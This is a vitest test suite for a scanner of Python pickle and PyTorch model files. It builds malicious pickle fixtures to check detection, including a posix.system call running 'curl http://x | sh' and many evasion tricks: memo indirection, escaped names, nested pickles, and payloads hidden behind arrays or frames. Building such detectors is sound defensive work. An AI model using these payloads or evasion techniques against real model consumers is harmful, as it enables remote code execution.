import { describe, expect, test } from 'vitest'
import * as p from '../../../test/fixtures/pickle-assembler.ts'
import { scanBytes } from '../scan.ts'

/** Rules of the findings of a pickle, and its verdict first. */
async function rules(bytes: Uint8Array): Promise<string[]> {
  const { verdict, findings } = await scanBytes(bytes, 'model.pkl')
  return [verdict, ...findings.map(({ rule }) => rule ?? '')]
}

const SYSTEM = p.call('os', 'system', p.text('true'))

describe('what loading would do is told with its place and its arguments', () => {
  test('a call', async () => {
    const { verdict, findings } = await scanBytes(p.pickle(p.call('posix', 'system', p.text('curl http://x | sh'))), 'model.pkl')
    expect(verdict).toBe('fail')
    expect(findings).toHaveLength(1)
    expect(findings[0]).toMatchObject({
      rule: 'pickle.dangerous-call',
      severity: 'error',
      message: 'At byte 41, REDUCE calls posix.system("curl http://x | sh"): runs programs',
      location: { file: 'model.pkl', byteOffset: 41 },
      evidence: { opcode: 'REDUCE', module: 'posix', name: 'system', arguments: '("curl http://x | sh")' },
    })
  })

  test('an import that is not called', async () => {
    const { findings } = await scanBytes(p.pickle(p.global('os', 'system')), 'model.pkl')
    expect(findings.map(({ message }) => message)).toEqual(['At byte 2, GLOBAL imports os.system: runs programs'])
  })

  test('nested arguments are shown as far as they are constant', async () => {
    const args = p.tuple(p.text('a'), p.bytes([1, 0xff]), p.int(7), p.NONE, p.global('builtins', 'list'))
    const { findings } = await scanBytes(p.pickle(p.call('subprocess', 'run', args, p.EMPTY_LIST)), 'model.pkl')
    expect(findings[0]?.message).toContain(
      String.raw`subprocess.run(("a", b"\u0001ÿ", 7, None, builtins.list), []): runs programs`,
    )
  })
})

describe('every way to call is seen', () => {
  const args = p.tuple(p.text('true'))
  test.each([
    ['REDUCE', SYSTEM],
    ['INST', [...p.MARK, ...p.text('true'), ...p.inst('os', 'system')]],
    ['OBJ', [...p.MARK, ...p.global('os', 'system'), ...p.text('true'), ...p.OBJ]],
    ['NEWOBJ', [...p.global('os', 'system'), ...args, ...p.NEWOBJ]],
    ['NEWOBJ_EX', [...p.global('os', 'system'), ...args, ...p.EMPTY_DICT, ...p.NEWOBJ_EX]],
    ['the result is thrown away', [...SYSTEM, ...p.POP, ...p.NONE]],
    ['the result is thrown away with its mark', [...p.MARK, ...SYSTEM, ...p.POP_MARK, ...p.NONE]],
    ['inside of a dict', p.dict([p.text('key'), SYSTEM])],
    ['inside of allowed arguments', p.call('collections', 'OrderedDict', SYSTEM)],
  ])('%s', async (_name, opcodes) => {
    expect(await rules(p.pickle(opcodes))).toEqual(['fail', 'pickle.dangerous-call'])
  })
})

describe('the names of STACK_GLOBAL are followed wherever they come from', () => {
  const [os, system] = [p.text('os'), p.text('system')]
  const end = [...p.tuple(p.text('true')), ...p.REDUCE]
  test.each([
    ['the stack', [...os, ...system, ...p.STACK_GLOBAL, ...end]],
    [
      'the memo',
      [
        ...os,
        ...p.binput(3),
        ...p.POP,
        ...system,
        ...p.binput(7),
        ...p.POP,
        ...p.binget(3),
        ...p.binget(7),
        ...p.STACK_GLOBAL,
        ...end,
      ],
    ],
    [
      'MEMOIZE',
      [
        ...os,
        ...p.MEMOIZE,
        ...p.POP,
        ...system,
        ...p.MEMOIZE,
        ...p.POP,
        ...p.binget(0),
        ...p.binget(1),
        ...p.STACK_GLOBAL,
        ...end,
      ],
    ],
    [
      'a slot that is written twice',
      [
        ...p.text('json'),
        ...p.binput(0),
        ...p.POP,
        ...os,
        ...p.binput(0),
        ...p.POP,
        ...p.binget(0),
        ...system,
        ...p.STACK_GLOBAL,
        ...end,
      ],
    ],
    [
      'a far slot',
      [...os, ...p.longBinput(2 ** 32 - 1), ...p.POP, ...p.longBinget(2 ** 32 - 1), ...system, ...p.STACK_GLOBAL, ...end],
    ],
    ['decoys between', [...os, ...system, ...p.text('json'), ...p.POP, ...p.STACK_GLOBAL, ...p.NONE, ...p.POP, ...end]],
    [
      'STRING with escapes',
      [...p.string(String.raw`\x6f\163`), ...p.unicode(String.raw`\u0073ystem`), ...p.STACK_GLOBAL, ...end],
    ],
    ['every other kind of string', [...p.binstring('os'), ...p.text8('system'), ...p.STACK_GLOBAL, ...end]],
  ])('%s', async (_name, opcodes) => {
    const { verdict, findings } = await scanBytes(p.pickle(opcodes), 'model.pkl')
    expect(verdict).toBe('fail')
    expect(findings.map(({ message }) => message).join()).toContain('REDUCE calls os.system("true")')
  })

  test('a memo slot far from those that are written is refused; those that a pickler counts up are not', async () => {
    const far = await scanBytes(p.pickle([...p.NONE, ...p.longBinput(2 ** 32 - 1)]), 'model.pkl')
    expect(far.findings.map(({ rule }) => rule)).toEqual(['pickle.anomaly'])
    const near = await scanBytes(p.pickle([...p.NONE, ...p.longBinput(1_000_000), ...p.longBinput(100_000)]), 'model.pkl')
    expect(near.verdict).toBe('pass')
  })

  test('a name that is computed is refused', async () => {
    const computed = p.call('_codecs', 'encode', p.text('os'), p.text('latin1'))
    expect(await rules(p.pickle(computed, system, p.STACK_GLOBAL))).toEqual(['fail', 'pickle.computed-import'])
  })
})

describe('indirection', () => {
  test.each([
    ['the extension registry', [...p.ext1(1), ...p.tuple(), ...p.REDUCE], 'pickle.extension-code'],
    ['a resolver of names', p.call('pkgutil', 'resolve_name', p.text('os:system')), 'pickle.dangerous-call'],
    ['a dotted name through an allowed module', p.global('numpy', 'os.system'), 'pickle.dangerous-import'],
    ['a dotted name that reaches what is not known', p.global('numpy', 'lib.whatever'), 'pickle.unknown-import'],
    ['names of Python 2', p.call('__builtin__', 'eval', p.text('1')), 'pickle.dangerous-call'],
    ['names that Python 2 moved', p.call('commands', 'getoutput', p.text('id')), 'pickle.dangerous-call'],
    [
      'the result of getattr called',
      [...p.call('builtins', 'getattr', p.global('collections', 'OrderedDict'), p.text('X')), ...p.tuple(), ...p.REDUCE],
      'pickle.computed-call',
    ],
    [
      'a private attribute',
      p.call('builtins', 'getattr', p.global('collections', 'OrderedDict'), p.text('__init__')),
      'pickle.misused-call',
    ],
    ['a new class by type', p.call('builtins', 'type', p.text('X'), p.EMPTY_TUPLE, p.EMPTY_DICT), 'pickle.misused-call'],
    [
      'NumPy asked to look a name up',
      p.call('numpy.core', '_ufunc_reconstruct', p.text('os'), p.text('system')),
      'pickle.misused-call',
    ],
    [
      'NumPy asked to call a name',
      p.call('numpy.random._pickle', '__generator_ctor', p.text('x'), p.global('builtins', 'list')),
      'pickle.misused-call',
    ],
    [
      'a conditional name handed on',
      p.call('collections', 'defaultdict', p.global('builtins', 'getattr')),
      'pickle.misused-call',
    ],
    ['a value called', p.call('numpy', 'log1p', p.int(1)), 'pickle.misused-call'],
    [
      'a class changed by BUILD',
      [...p.global('collections', 'OrderedDict'), ...p.dict([p.text('a'), p.NONE]), ...p.BUILD],
      'pickle.changed-class',
    ],
    [
      'a class changed by SETITEM',
      [...p.global('collections', 'OrderedDict'), ...p.text('a'), ...p.NONE, ...p.SETITEM],
      'pickle.changed-class',
    ],
    ['sys.modules changed', [...p.global('sys', 'modules'), ...p.text('os'), ...p.NONE, ...p.SETITEM], 'pickle.dangerous-import'],
    ['an object that only the loader has', [...p.text('x'), ...p.BINPERSID], 'pickle.persistent-id'],
    ['bytes outside of the file, called', [...p.NEXT_BUFFER, ...p.EMPTY_TUPLE, ...p.REDUCE], 'pickle.computed-call'],
    ['a class that no list has', p.call('my_company.models', 'Thing'), 'pickle.unknown-call'],
  ])('%s', async (_name, opcodes, rule) => {
    const [verdict, ...found] = await rules(p.pickle(opcodes))
    expect(verdict).toBe('fail')
    expect(found).toContain(rule)
  })
})

describe('streams that loaders run in part', () => {
  test.each([
    ['cut off after the call', p.raw(p.proto(2), SYSTEM), ['pickle.broken', 'pickle.dangerous-call']],
    ['no opcode after the call', p.raw(p.proto(2), SYSTEM, [0xff, 0xff]), ['pickle.broken', 'pickle.dangerous-call']],
    ['an argument that is cut off', p.raw(p.proto(2), SYSTEM, [0x58, 0xff, 0, 0, 0]), ['pickle.broken', 'pickle.dangerous-call']],
    ['the second pickle', p.raw([...p.pickle(p.NONE)], [...p.pickle(SYSTEM)]), ['pickle.dangerous-call']],
    [
      'a second pickle that is cut off',
      p.raw([...p.pickle(p.NONE)], p.proto(4), SYSTEM),
      ['pickle.trailing-data', 'pickle.dangerous-call'],
    ],
    ['values left on the stack', p.pickle(p.NONE, SYSTEM), ['pickle.anomaly', 'pickle.dangerous-call']],
    ['a mark left open', p.pickle(p.MARK, SYSTEM), ['pickle.anomaly', 'pickle.dangerous-call']],
    ['an empty stack before the call', p.pickle(p.POP, SYSTEM), ['pickle.anomaly', 'pickle.dangerous-call']],
  ])('%s', async (_name, bytes, expected) => {
    const [verdict, ...found] = await rules(bytes)
    expect(verdict).toBe('fail')
    expect(found.toSorted()).toEqual([...expected].toSorted())
  })

  test('a pickle that is cut off, with nothing bad in it, is not clean', async () => {
    expect(await rules(p.raw(p.proto(4), p.text('hello')))).toEqual(['error', 'pickle.broken'])
  })

  test('data behind a pickle are not clean', async () => {
    expect(await rules(p.raw([...p.pickle(p.NONE)], [0xff, 0, 1, 2]))).toEqual(['fail', 'pickle.trailing-data'])
  })
})

// Source: measured against CPython 3.8 to 3.13, where `_pickle` accepts each of these numbers and `pickletools` does not.
describe('numbers that loaders accept and disassemblers do not', () => {
  test.each(['I0x10', 'L0x10L', 'I1\0zz', 'L1\0zz', 'F1.0\0zz'])('%j', async (number) => {
    const [verdict, ...found] = await rules(p.pickle(p.line(number), p.POP, SYSTEM))
    expect(verdict).toBe('fail')
    expect(found).toContain('pickle.dangerous-call')
  })

  test.each(['1_0', '+10', ' 10', '010', '10\0zz'])('memo slot %j', async (slot) => {
    const opcodes = [...p.text('os'), ...p.put(slot), ...p.POP, ...p.binget(10), ...p.text('system'), ...p.STACK_GLOBAL]
    expect(await rules(p.pickle(opcodes))).toContain('pickle.dangerous-import')
  })
})

describe('frames', () => {
  test('that hold whole opcodes are fine', async () => {
    expect(await rules(p.raw(p.proto(4), p.frame(7), p.text('x'), p.STOP))).toEqual(['pass'])
  })

  test.each([
    ['an opcode over the end of its frame', p.raw(p.proto(4), p.frame(3), p.text('xyz'), p.STOP)],
    ['a frame in a frame', p.raw(p.proto(4), p.frame(30), p.frame(7), p.text('x'), p.STOP)],
    [
      'bytes hidden behind STOP',
      p.raw(
        p.proto(4),
        p.frame(20),
        p.NONE,
        p.STOP,
        Array.from({ length: 18 }, () => 0),
      ),
    ],
  ])('%s', async (_name, bytes) => {
    expect(await rules(bytes)).toContain('pickle.frame')
  })
})

describe('joblib arrays', () => {
  const dtype = [
    ...p.call('numpy', 'dtype', p.text('f8'), p.NEWFALSE, p.NEWFALSE),
    ...p.tuple(p.int(3), p.text('<'), p.NONE, p.NONE, p.NONE, p.int(-1), p.int(-1), p.int(0)),
    ...p.BUILD,
  ]
  const wrapper = (fields: [p.Bytes, p.Bytes][]) => [
    ...p.global('joblib.numpy_pickle', 'NumpyArrayWrapper'),
    ...p.EMPTY_TUPLE,
    ...p.NEWOBJ,
    ...p.dict([p.text('subclass'), p.global('numpy', 'ndarray')], [p.text('dtype'), dtype], ...fields),
    ...p.BUILD,
  ]
  const shape = (...sizes: number[]): [p.Bytes, p.Bytes] => [p.text('shape'), p.tuple(...sizes.map(p.int))]
  const aligned: [p.Bytes, p.Bytes] = [p.text('numpy_array_alignment_bytes'), p.int(16)]
  const numbers = Array.from({ length: 48 }, (_, i) => 0x80 + i)

  test('are stepped over', async () => {
    expect(await rules(p.pickle(wrapper([shape(2, 3)]), numbers))).toEqual(['pass'])
  })

  test('are stepped over with their padding', async () => {
    expect(await rules(p.pickle(wrapper([shape(2, 3), aligned]), [5, 255, 255, 255, 255, 255], numbers))).toEqual(['pass'])
  })

  test('do not hide what comes behind them', async () => {
    expect(await rules(p.pickle(wrapper([shape(2, 3)]), numbers, SYSTEM, p.POP))).toEqual(['fail', 'pickle.dangerous-call'])
  })

  test('do not hide opcodes that a plain pickle.load reads in their place', async () => {
    const payload = [...SYSTEM, ...p.STOP]
    const padded = [...payload, ...Array.from({ length: 48 - payload.length }, () => 0)]
    expect(await rules(p.pickle(wrapper([shape(2, 3)]), padded))).toEqual(['fail', 'pickle.dangerous-call'])
  })

  test('of unknown size are not clean', async () => {
    const [verdict, ...found] = await rules(p.pickle(wrapper([]), numbers))
    expect(verdict).not.toBe('pass')
    expect(found).toContain('pickle.unread-array')
  })
})

describe('pickles in bytes', () => {
  const load = (inner: Uint8Array) => p.pickle(p.call('torch.storage', '_load_from_bytes', p.bytes([...inner])))

  test('are examined', async () => {
    expect(await rules(load(p.pickle(SYSTEM)))).toEqual(['fail', 'pickle.dangerous-call'])
    expect(await rules(load(p.pickle(p.NONE)))).toEqual(['pass'])
  })

  test('are examined also when their loader is refused', async () => {
    const bytes = p.pickle(p.call('pickle', 'loads', p.bytearray8([...p.pickle(SYSTEM)])))
    const { findings } = await scanBytes(bytes, 'model.pkl')
    expect(findings.map(({ message }) => message).join()).toContain('os.system("true")')
  })
})

describe('PyTorch', () => {
  const storage = (items: number) =>
    p.tuple(p.text('storage'), p.global('torch', 'FloatStorage'), p.text('0'), p.text('cpu'), p.int(items), p.NONE)
  const tensor = (items: number) =>
    p.call(
      'torch._utils',
      '_rebuild_tensor_v2',
      [...storage(items), ...p.BINPERSID],
      p.int(0),
      p.tuple(p.int(items)),
      p.tuple(p.int(1)),
      p.NEWFALSE,
      p.call('collections', 'OrderedDict'),
    )
  const magic = [0x80, 2, 0x8a, 10, 0x6c, 0xfc, 0x9c, 0x46, 0xf9, 0x20, 0x6a, 0xa8, 0x50, 0x19, 0x2e]
  const legacy = (object: p.Bytes, tail: p.Bytes) =>
    p.raw(
      magic,
      [...p.pickle(p.int(1001))],
      [...p.pickle(p.EMPTY_DICT)],
      [...p.pickle(object)],
      [...p.pickle(p.EMPTY_LIST)],
      tail,
    )
  const raw = (items: number) => [items, 0, 0, 0, 0, 0, 0, 0, ...Array.from({ length: items * 4 }, (_, i) => i)]

  test('files of the old format are read through all their pickles, and their storages accounted for', async () => {
    const { verdict, formats } = await scanBytes(legacy(tensor(3), raw(3)), 'model.pt')
    expect([verdict, ...formats]).toEqual(['pass', 'pickle', 'torch-legacy'])
    expect(await rules(legacy([...SYSTEM, ...p.POP, ...tensor(3)], raw(3)))).toEqual(['fail', 'pickle.dangerous-call'])
  })

  test('storages of another size than the tensors are not clean', async () => {
    expect(await rules(legacy(tensor(3), raw(4)))).toContain('pickle.trailing-data')
  })
})

test('ordinary values pass', async () => {
  const values = p.dict(
    [p.text('list'), p.EMPTY_LIST],
    [p.text('date'), p.call('datetime', 'date', p.bytes([7, 228, 1, 1]))],
    [p.text('default'), p.call('collections', 'defaultdict', p.global('builtins', 'list'))],
    [p.text('bytes'), p.call('_codecs', 'encode', p.text('é'), p.text('latin1'))],
    [p.text('none'), p.call('builtins', 'type', p.NONE)],
  )
  expect(await rules(p.pickle(values))).toEqual(['pass'])
})
